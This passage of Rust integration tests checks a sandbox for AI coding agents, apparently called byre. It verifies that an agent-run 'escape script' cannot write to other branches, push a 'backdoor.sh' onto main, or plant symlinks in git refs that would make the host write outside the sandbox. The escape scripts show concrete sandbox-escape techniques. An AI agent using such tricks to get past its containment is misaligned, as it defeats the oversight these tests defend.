    t.say(id(&task), &sid, "Run the escape script").await;
    let other_after = tip(other_branch);
    // The other task is merged: `main` gets its work and nothing of the intruder's.
    std::fs::write(worktree(&other).join("feature.txt"), "feature\n").unwrap();
    t.merge(&other, "Add feature").await;
    let log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", "main"]);
    assert!(log.starts_with("Add feature"), "{log}");
    assert!(!log.contains("chore: tidy"), "{log}");
    let files = crate::helpers::git(t.checkout.path(), &["ls-tree", "-r", "--name-only", "main"]);
    assert!(files.contains("feature.txt"), "{files}");
    assert!(!files.contains("backdoor.sh"), "{files}");
    // Each write failed in the kernel; its own commits and branches worked.
    let results = t.tool_results(id(&task));
    for key in ["MAIN", "OTHER", "UPDATE", "SIDE"] {
        assert_eq!(outcome(&results, key), "refused", "{key}: {results}");
    }
    assert!(results.contains("Read-only file system"), "{results}");
    assert_eq!(outcome(&results, "OWN"), "committed", "{results}");
    assert_eq!(outcome(&results, "NS"), "made", "{results}");
    assert_eq!(other_after, other_before);
    let own_log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", branch]);
    assert!(own_log.contains("own work"), "{own_log}");
    t.server.stop().await;
}

/// N3 (break-it review 3): a directory link an agent planted under `refs/remotes/` made
/// byre's `git push` outside the sandbox create a ref file where the link pointed. Now no link
/// can be planted anywhere in `refs/` but the task's own directory, and there byre's own
/// branch move replaces a link (a lock file beside it, renamed over it) instead of writing
/// through it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_plant_a_link_in_the_projects_refs_that_byre_writes_through() {
    let mut t = Team::start().await;
    let git_dir = std::fs::canonicalize(t.checkout.path().join(".git")).unwrap();
    let (task, sid) = t.task("planter", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let branch = task["branch"].as_str().unwrap();
    let tip = crate::helpers::git(t.checkout.path(), &["rev-parse", branch]);
    // A file outside every sandbox, holding the branch's tip (so a read through a link sees a
    // valid ref, and a write through it would replace it).
    let victim = t.outside.target().join("victim-ref");
    std::fs::write(&victim, format!("{tip}\n")).unwrap();
    let script = format!(
        "G='{g}'\n\
         (mkdir -p $G/refs/remotes && ln -s '{target}' $G/refs/remotes/origin) 2>&1 \
         && echo REMOTE=LINKED || echo REMOTE=refused\n\
         (ln -s '{target}' $G/refs/heads/planted) 2>&1 && echo HEADS=LINKED || echo HEADS=refused\n\
         (ln -sf '{victim}' $G/refs/heads/{branch}) 2>&1 && echo OWN=linked || echo OWN=refused\n\
         echo changed > changed.txt\n\
         echo SCRIPT-DONE\n",
        g = git_dir.display(),
        target = t.outside.target().display(),
        victim = victim.display(),
    );
    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
    t.say(id(&task), &sid, "Run the escape script").await;
    let results = t.tool_results(id(&task));
    assert_eq!(outcome(&results, "REMOTE"), "refused", "{results}");
    assert_eq!(outcome(&results, "HEADS"), "refused", "{results}");
    // Its own branch is its to break; byre's end-of-turn commit must not write through it.
    assert_eq!(outcome(&results, "OWN"), "linked", "{results}");
    t.snapshots(id(&task), 2).await;
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        format!("{tip}\n"),
        "byre wrote the task's branch through the agent's link"
    );
    assert_eq!(t.outside.written(), ["victim-ref"]);
    for dir in ["refs/remotes/origin", "refs/heads/planted"] {
        assert!(
            std::fs::symlink_metadata(git_dir.join(dir)).is_err(),
            "{dir} was planted"
        );
    }
    t.server.stop().await;
}
